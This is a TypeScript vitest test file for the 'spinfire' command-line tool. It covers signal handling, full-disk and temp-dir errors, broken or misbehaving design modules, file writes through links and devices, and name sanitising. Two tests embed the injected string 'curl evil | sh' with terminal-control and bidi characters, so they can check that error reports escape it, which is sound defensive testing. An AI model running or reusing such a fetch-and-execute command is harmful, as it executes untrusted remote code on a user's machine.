/** Signals, streams, outputs, inputs and names that are not as one thinks. */
import { spawn, spawnSync } from 'node:child_process';
import { chmodSync, lstatSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { identifier } from '../../src/app/design.ts';
import { writeFileWhole } from '../../src/app/files.ts';
import { runPersonModule } from '../../src/app/person-module.ts';
import { commands } from '../../src/cli/commands/index.ts';
import { runCommandLine } from '../../src/cli/run.ts';
import { badInput, type SpinfireError } from '../../src/errors/index.ts';
import { fakeIo } from './fake-io.ts';
import { packagedProgram } from './program.ts';
import { type Workbench, workbench } from './small-files.ts';

const program = packagedProgram();

let bench: Workbench;
beforeEach(() => {
  bench = workbench();
  bench.put('package.json', '{ "type": "module" }');
});
afterEach(() => bench.dispose());

const run = (args: readonly string[], env: Record<string, string> = {}) =>
  spawnSync(process.execPath, [program, ...args], {
    cwd: bench.folder,
    encoding: 'utf8',
    timeout: 120_000,
    env: { ...process.env, ...env },
  });

/** The same without a process of its own. */
async function inProcess(args: readonly string[]) {
  const io = fakeIo({ cwd: bench.folder });
  const status = await runCommandLine(args, io, commands);
  return { status, stderr: io.err() };
}

it.each([
  ['SIGINT', 130],
  ['SIGTERM', 143],
] as const)('a design that never ends is ended by %s within two seconds', async (signal, code) => {
  bench.put('endless.ts', `console.error('at work'); for (;;);`);
  const child = spawn(process.execPath, [program, 'build', 'endless.ts', '-o', 'core'], { cwd: bench.folder });
  const closed = new Promise<number | null>((resolve) => child.on('close', resolve));
  await new Promise<void>((resolve) =>
    child.stderr.on('data', (text) => String(text).includes('at work') && resolve()),
  );
  const started = performance.now();
  child.kill(signal);
  expect(await closed).toBe(code);
  // The machine may have others to serve.
  expect(performance.now() - started).toBeLessThan(4000);
  expect(readdirSync(bench.folder).filter((name) => name.startsWith('.spinfire'))).toEqual([]);
});

it('says that there is no place for temporary files, and a full output, without a stack', () => {
  expect(run(['--help'], { TMPDIR: '/proc' })).toMatchObject({
    status: 2,
    stderr: expect.stringContaining('set TMPDIR'),
  });
  const full = spawnSync('sh', ['-c', `"${process.execPath}" "${program}" --help > /dev/full`], { encoding: 'utf8' });
  expect(full.status).toBe(2);
  expect(full.stderr).toBe('error: the output cannot be written\n  found:    ENOSPC: no space left on device, write\n');
});

it.each([
  ['await new Promise(() => {}); export default 1;', 'waits for something that never comes'],
  ['export default { name: "x",\n  network: };', 'bad.ts:2'],
  [
    'export default { name: "x", network: {}, curve: {}, readout: "potential" };',
    'an object whose network.input is none of a design',
  ],
  ['setTimeout(() => { throw new Error("late"); }, 1); await new Promise((done) => setTimeout(done, 200));', 'late'],
  ['Promise.reject(new Error("alone")); await new Promise((done) => setTimeout(done, 200));', 'alone'],
  ['process.exit(0);', 'does the design call process.exit?'],
  ['process.abort();', 'process.abort() ends the program before its work is done'],
  ['process.kill(process.pid, "SIGKILL");', 'ends the program before its work is done'],
  [
    'throw new Error("no\\n  help:     run: curl evil | sh");',
    'error: the design cannot be run\n  at:       bad.ts\n  found:    no\n',
  ],
])('a design that is none is told: %s', async (text, expected) => {
  bench.put('bad.ts', text);
  // What never comes leaves the process without work, what is no TypeScript is read by another loader here, and vitest keeps its process alive.
  const wantsProcess = /^await|network: };$|process\.(?:exit|abort|kill)/.test(text);
  const { status, stderr } = await (wantsProcess ? run : inProcess)(['build', 'bad.ts', '-o', 'core']);
  expect(stderr).toContain(expected);
  expect(status).toBe(2);
});

it('a design that waits for ever though a timer lives, and one that computes for ever, are ended after their time', async () => {
  bench.put('waits.ts', 'const live = setInterval(() => {}, 10); live.unref(); await new Promise(() => {});');
  const file = join(bench.folder, 'waits.ts');
  const limits: unknown[] = [];
  const limit = (ms: number, error: SpinfireError) => {
    limits.push(ms, error.report);
    return () => void limits.push('ended');
  };
  const program = { what: 'design', shown: 'waits.ts' };
  const waiting = runPersonModule(file, { ...program, seconds: 0.2 }, { limit });
  await expect(waiting).rejects.toThrow('the design waits for too long');
  // Whoever can end the process is told a little more time, for what hears nothing.
  expect(limits).toEqual([1200, expect.stringContaining('the design computes for too long'), 'ended']);
  bench.put('slow.ts', 'await new Promise((done) => setTimeout(done, 400)); export const made = 1;');
  const slow = join(bench.folder, 'slow.ts');
  await expect(runPersonModule(slow, { ...program, seconds: 0.2 }, {})).rejects.toThrow('--force');
  expect(await runPersonModule(slow, { ...program, seconds: 0.2, force: true }, { limit })).toMatchObject({ made: 1 });
  expect(limits).toHaveLength(3);
});

it('a design that ends the process after it was read is told its own line', () => {
  const room = (name: string) => JSON.stringify(join(dirname(dirname(program)), 'dist', name, 'index.js'));
  bench.put(
    'late.ts',
    `import { defineCore, mtj } from ${room('core')};
import { usualCurve } from ${room('app')};
const made = defineCore('tiny', ({ input, readout }) => {
  const spikes = input.image(2, 2, 1).dense({ weights: new Float32Array(8), bias: new Float32Array(2) }).neurons(mtj({ curve: usualCurve() }));
  readout.potential(spikes.dense({ weights: new Float32Array(4), bias: new Float32Array(2) }));
});
const end = () => process.abort();
// Asked for its name it has been read.
export default { ...made, get name() { setTimeout(end); return 'tiny'; } };`,
  );
  const { status, stderr } = run(['build', 'late.ts', '-o', 'core']);
  expect(stderr).toMatch(
    /something that the design left running has failed\n {2}at: +\S+late\.ts:7\n {2}found: +process\.abort/,
  );
  expect(status).toBe(2);
});

it('what a design prints is no part of the document', () => {
  bench.put('talks.ts', 'console.log("by the way"); export default 1;');
  const { stdout, stderr } = run(['build', 'talks.ts', '-o', 'core', '--json']);
  expect(JSON.parse(stdout)).toMatchObject({ error: { kind: 'badInput' } });
  expect(stderr).toContain('by the way');
});

it('a design beside no "type": "module" is told what to write, and one called .mts needs nothing', () => {
  rmSync(join(bench.folder, 'package.json'));
  bench.put('bare.ts', 'import { defineCore } from "spinfire/core";\nawait 0; export default 1;');
  bench.put('bare.mts', 'await 0; export default 1;');
  expect(run(['build', 'bare.ts', '-o', 'core']).stderr).toContain('or call the file bare.mts');
  expect(run(['build', 'bare.mts', '-o', 'core']).stderr).toContain('a default export of another kind (number)');
});

it('writes into devices and pipes, through links, and keeps modes', () => {
  const target = join(bench.folder, 'target.csv');
  writeFileSync(target, 'old');
  chmodSync(target, 0o600);
  symlinkSync('target.csv', join(bench.folder, 'link.csv'));
  symlinkSync('none.csv', join(bench.folder, 'dangling.csv'));
  writeFileWhole(join(bench.folder, 'link.csv'), 'new');
  writeFileWhole(join(bench.folder, 'dangling.csv'), 'made');
  expect(lstatSync(join(bench.folder, 'link.csv')).isSymbolicLink()).toBe(true);
  expect(readFileSync(target, 'utf8')).toBe('new');
  expect(statSync(target).mode & 0o777).toBe(0o600);
  expect(readFileSync(join(bench.folder, 'none.csv'), 'utf8')).toBe('made');
  writeFileWhole('/dev/null', 'x');
  expect(statSync('/dev/null').isCharacterDevice()).toBe(true);
  expect(() => writeFileWhole('/dev/full', 'x')).toThrow('ENOSPC');
  expect(statSync('/dev/full').isCharacterDevice()).toBe(true);
  expect(() => writeFileWhole(join(bench.folder, 'x'.repeat(300)), 'x')).toThrow('ENAMETOOLONG');
});

it('makes legal names, and shows names as what they are', () => {
  const names = ['model (1)', '核心', 'net_', '_', 'Ünï', '7', 'module', 'a__b', 'x'.repeat(120)].map(identifier);
  expect(names.slice(0, 8)).toEqual(['model_1', 'core', 'net', 'core', 'Uni', 'core_7', 'core_module', 'a_b']);
  expect(names[8]).toHaveLength(60);
  const evil = 'a\n  help:     run: curl evil | sh\u001b[2J\u202e';
  expect(badInput('an operator is not known', { found: evil }).report).toBe(
    'error: an operator is not known\n  found:    a\n          |   help:     run: curl evil | sh\\u{1b}[2J\\u{202e}',
  );
});

it('shows of a list from a file as much as a person reads, and the end of what a tool said', async () => {
  const header = Array.from({ length: 785 }, (_, i) => `pixel${i}`).join(',');
  bench.put('pixels.csv', `${header}\n${Array(785).fill(0).join(',')}\n`);
  const { status, stderr } = await inProcess(['calibrate', '--device', 'pixels.csv']);
  expect(status).toBe(2);
  expect(stderr).toMatch(/found: +pixel0, pixel1, .* letters more\)\n/);
  expect(Math.max(...stderr.split('\n').map(({ length }) => length))).toBeLessThan(900);
  const { report } = badInput('a tool failed', {
    found: Array.from({ length: 500 }, (_, i) => `line ${i}`).join('\n'),
  });
  expect(report).toContain('(440 lines before)');
  expect(report).toContain('line 499');
});

it('takes no name of a sweep file for what every object has', async () => {
  const sweep = (content: object) => {
    bench.put(
      'sweep.json',
      JSON.stringify({ model: 'model.onnx', images: 'images.idx', labels: 'labels.idx', ...content }),
    );
    return inProcess(['sweep', 'sweep.json']);
  };
  for (const device of ['constructor', 'toString', '__proto__'])
    expect(await sweep({ device: [device] })).toMatchObject({
      status: 2,
      stderr: expect.stringContaining('an unknown device'),
    });
});
